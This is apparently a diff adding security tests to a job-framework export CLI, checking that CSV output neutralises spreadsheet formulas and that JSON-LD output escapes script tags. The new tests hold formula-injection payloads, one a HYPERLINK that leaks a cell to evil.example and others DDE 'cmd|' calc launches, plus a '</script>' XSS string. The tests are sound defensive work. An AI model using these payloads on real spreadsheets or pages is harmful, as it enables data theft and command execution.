@@ -1,4 +1,4 @@
-import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import os from 'node:os';
 import path from 'node:path';
 import { DEFAULT_CONTENT_DIR, EXPORT_SCHEMA_PATH, loadFrameworkOrThrow, type Framework } from '@altitude/schema';
@@ -6,6 +6,7 @@ import { Ajv2020 } from 'ajv/dist/2020.js';
 import { parse as parseCsv } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { runCli, startCliServer, type CliServer } from '../support/cli.js';
+import { editContent } from '../support/content.js';
 
 let framework: Framework;
 let work: string;
@@ -13,6 +14,14 @@ beforeAll(async () => {
   framework = await loadFrameworkOrThrow(DEFAULT_CONTENT_DIR);
   work = await mkdtemp(path.join(os.tmpdir(), 'altitude-export-'));
 });
+
+/** A copy of content/ (in `work`) with `edit` applied to levels.yaml, for content an attacker could have written. */
+async function hostileContent(name: string, edit: (text: string) => string): Promise<string> {
+  const dir = path.join(work, name);
+  await cp(DEFAULT_CONTENT_DIR, dir, { recursive: true });
+  await editContent(dir, 'levels.yaml', edit);
+  return dir;
+}
 afterAll(async () => {
   await rm(work, { recursive: true, force: true });
 });
@@ -63,6 +72,29 @@ describe('CSV: one job profile per level', () => {
     }
   });
 
+  it('neutralises cells that a spreadsheet would run as a formula (=, +, -, @), and parses back to the text with an apostrophe', async () => {
+    const content = await hostileContent('formula-content', (text) =>
+      text
+        .replace('title: Staff Engineer', `title: "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Staff\\")"`)
+        .replace(
+          'Technical leadership for a whole organisation',
+          "@SUM(1+1)*cmd|' /C calc'!A0 Technical leadership for a whole organisation",
+        )
+        .replace(/(operating-scope:\n\s+headline: )The whole company/, "$1'+1+1'"),
+    );
+    await writeFile(path.join(work, 'formula.config.json'), JSON.stringify({ jobCodes: { distinguished: '-2+3+cmd|A0' } }));
+    const csv = await exportCli('--format', 'csv', '--content', content, '--config', 'formula.config.json');
+    await rm(path.join(work, 'formula.config.json'));
+    const rows = parseCsv<string[]>(csv, { record_delimiter: '\r\n' });
+    const cells = rows.flat();
+    // No cell of the file starts a formula; each hostile one reads back as its text behind an apostrophe.
+    expect(cells.filter((c) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(c))).toEqual([]);
+    expect(rows[1]![1]).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Staff")`);
+    expect(rows[2]![4]).toMatch(/^'@SUM\(1\+1\)\*cmd\|' \/C calc'!A0 Technical leadership/);
+    expect(rows[3]![0]).toBe(`'-2+3+cmd|A0`);
+    expect(rows[3]![5]).toMatch(/^'\+1\+1\. /);
+  });
+
   it('takes job codes and family from altitude.config.yaml', async () => {
     await writeFile(
       path.join(work, 'altitude.config.yaml'),
@@ -111,6 +143,16 @@ describe('JSON-LD', () => {
       expect(occupation.skills.every((s: { '@type': string }) => s['@type'] === 'DefinedTerm')).toBe(true);
       expect(occupation.occupationalCategory).toBeUndefined();
     }
+  });
+
+  it('can be pasted into a <script type="application/ld+json">: no "<" in the text, the same strings once parsed', async () => {
+    const title = '</script><script>alert(1)</script><!--';
+    const content = await hostileContent('script-content', (text) => text.replace('title: Staff Engineer', `title: '${title}'`));
+    const text = await exportCli('--format', 'jsonld', '--content', content);
+    expect(text).not.toContain('<');
+    expect(text).toContain(String.raw`\u003c/script>`);
+    const doc = JSON.parse(text) as { '@graph': Record<string, any>[] };
+    expect(doc['@graph'][0]!.name).toBe(title);
   });
 
   it('adds occupationalCategory when configured', async () => {
